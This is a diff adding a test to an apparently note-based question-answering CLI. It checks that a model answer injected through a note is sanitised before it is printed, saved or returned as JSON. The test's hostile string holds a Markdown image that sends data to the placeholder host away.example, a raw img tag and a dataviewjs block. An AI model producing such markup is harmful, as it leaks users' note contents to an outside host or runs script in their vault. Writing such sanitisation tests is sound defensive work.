@@ -45,6 +45,20 @@ def test_an_answer_its_sources_and_a_note_of_it(
     )
 
 
+def test_an_answer_that_a_note_talked_a_model_into_is_harmless_everywhere(
+    notewell: CommandLine, model: ScriptedModel, indexed: Path
+) -> None:
+    hostile = "So [1]. ![x](https://away.example/?d=sun) <img src=y>\n\n```dataviewjs\n1\n```"
+    mended = "So [1]. x <https://away.example/?d=sun> &lt;img src=y>\n\n```\n1\n```"
+    model.turns += [Says(hostile), Says(hostile), Says(hostile)]
+    question = "How do bees find their way home?"
+
+    printed = notewell("ask", question, "--save", "Answers/Bees.md").stdout
+    assert printed.startswith(mended)
+    assert mended in (indexed / "Answers" / "Bees.md").read_text(encoding="utf-8")
+    assert notewell.json("ask", question)["answer"] == mended
+
+
 @pytest.mark.usefixtures("indexed")
 def test_json_prints_one_document_and_can_continue_a_conversation(
     notewell: CommandLine, model: ScriptedModel
